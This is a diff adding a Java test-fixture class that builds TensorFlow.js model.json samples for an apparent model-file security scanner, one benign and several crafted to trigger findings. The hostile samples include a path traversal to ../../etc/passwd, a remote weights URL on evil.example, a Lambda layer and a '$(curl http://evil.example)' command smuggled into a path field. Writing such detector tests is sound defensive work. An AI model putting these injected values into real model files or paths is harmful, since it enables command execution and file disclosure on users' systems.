@@ -1,0 +1,34 @@
+package dev.assay.detectors.model.tfjs;
+
+import dev.assay.detectors.model.FormatCase;
+import java.nio.charset.StandardCharsets;
+import java.util.List;
+import java.util.Map;
+
+/** Makes models of TensorFlow.js, good and bad. */
+public final class TfjsSamples {
+    private TfjsSamples() {}
+
+    private static byte[] model(String layer, String path) {
+        String json = "{\"format\":\"layers-model\",\"modelTopology\":{\"model_config\":{\"class_name\":\"Sequential\","
+                + "\"config\":{\"layers\":[{\"class_name\":\"" + layer
+                + "\",\"config\":{\"name\":\"dense_1\"}}]}}},\"weightsManifest\":[{\"paths\":[\"" + path
+                + "\"],\"weights\":[{\"name\":\"dense_1/kernel\",\"shape\":[2,2],\"dtype\":\"float32\"}]}]}";
+        return json.getBytes(StandardCharsets.UTF_8);
+    }
+
+    public static List<FormatCase> cases() {
+        return List.of(
+                FormatCase.of("model.json", model("Dense", "group1-shard1of1.bin")),
+                FormatCase.of("parent.json", model("Dense", "../../etc/passwd"), "model/tfjs-weights-path"),
+                FormatCase.of("address.json", model("Dense", "https://evil.example/w.bin"), "model/tfjs-weights-path"),
+                FormatCase.of("lambda.json", model("Lambda", "group1-shard1of1.bin"), "model/tfjs-lambda-layer"),
+                FormatCase.of("command.json", model("Dense", "$(curl http://evil.example)"), "model/embedded-command"),
+                FormatCase.of(
+                        "broken.json", "{\"modelTopology\":{,}}".getBytes(StandardCharsets.UTF_8), "gap:malformed"));
+    }
+
+    public static Map<String, byte[]> all() {
+        return FormatCase.bytesByName(cases());
+    }
+}
